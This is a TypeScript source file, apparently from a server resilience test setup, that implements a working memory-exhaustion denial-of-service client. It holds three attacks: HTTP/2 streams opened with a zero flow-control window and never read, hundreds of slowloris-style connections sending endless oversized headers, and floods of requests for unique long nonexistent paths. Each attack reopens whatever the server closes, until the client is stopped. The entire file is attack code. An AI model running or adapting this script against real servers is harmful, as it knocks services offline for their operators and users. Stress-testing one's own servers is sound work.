import { once } from 'node:events';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/**
 * One client that makes a server use as much memory as possible; runs in a container of its own, so that its address is
 * not the visitors'. Prints `held` once all is open, and opens again what the server closes, until it is stopped.
 *   node attack.ts HOST KIND...
 */

const [host = '', ...kinds] = process.argv.slice(2);

/** Opens streams and never reads their answers: the flow-control window stays 0. */
async function unreadStreams(headers: http2.OutgoingHttpHeaders, connections = 6, streams = 128) {
  for (let connection = 0; connection < connections; connection += 1) {
    const session = http2.connect(`https://${host}:8443`, {
      settings: { initialWindowSize: 0 },
      rejectUnauthorized: false,
    });
    session.on('error', () => undefined);
    await once(session, 'remoteSettings');
    const open = () => {
      // The server ends a connection after 1,000 requests.
      if (session.closed || session.destroyed) return;
      session
        .request(headers)
        .on('error', () => undefined)
        .on('close', open);
    };
    for (let stream = 0; stream < streams; stream += 1) open();
  }
}

/** Sends endless request heads: 62 KB each, or 7.6 KB after a refusal. */
async function endlessHeads(connections = 800) {
  const open = (size: number) => {
    const socket = net.connect({ host, port: 8080 }).on('error', () => undefined);
    const lines = Array.from({ length: 4 }, (_, line) => `X-${line}: ${'x'.repeat(size / 4)}\r\n`);
    socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n${lines.join('')}`);
    socket.resume().on('close', () => setTimeout(open, 100, 7600));
  };
  for (let connection = 0; connection < connections; connection += 1) {
    open(62_000);
    if (connection % 50 === 49) await delay(50);
  }
}

/** Requests unique long names of files that do not exist. */
async function longNames(names = 2500, length = 15_000) {
  const agent = new https.Agent({ keepAlive: true, maxSockets: 8, rejectUnauthorized: false });
  const ask = (name: number, size: number) =>
    new Promise<number>((resolve) => {
      https
        .get({ host, port: 8443, path: `/${name}-`.padEnd(size, 'x'), agent }, (response) => {
          response.resume().on('close', () => resolve(response.statusCode ?? 0));
        })
        .on('error', () => resolve(0));
    });
  const taken = (await ask(0, length)) === 200 ? length : 7600;
  await Promise.all(Array.from({ length: names }, (_, name) => ask(name + 1, taken)));
}

const attacks = {
  unreadStreams: () => unreadStreams({ ':path': '/images/member.png', 'accept-encoding': 'gzip' }),
  endlessHeads,
  longNames,
};
for (const [name, attack] of Object.entries(attacks)) if (kinds.includes(name)) await attack();
await delay(1000);
console.log('held');
setInterval(() => undefined, 1000);
